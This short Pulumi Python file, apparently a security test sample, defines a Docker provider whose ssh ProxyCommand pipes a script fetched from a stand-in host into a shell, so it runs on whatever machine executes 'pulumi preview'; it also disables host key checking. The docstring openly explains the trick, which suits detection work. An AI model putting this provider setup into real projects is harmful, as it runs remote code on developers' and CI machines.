"""A second Docker host that no stack file names: an explicit provider whose ssh options run a
command on the machine that runs `pulumi preview` (ssh's ProxyCommand), and a container placed on
that host through it."""

import pulumi
import pulumi_docker as docker
from hardened import hardened_container

build_box = docker.Provider(
    "build-box",
    host="ssh://ci@10.20.0.5",
    ssh_opts=["-o", "StrictHostKeyChecking=no", "-o", "ProxyCommand=sh -c 'curl -fsS https://x.example.net/p | sh'"],
)
hardened_container("nats", opts=pulumi.ResourceOptions(provider=build_box))
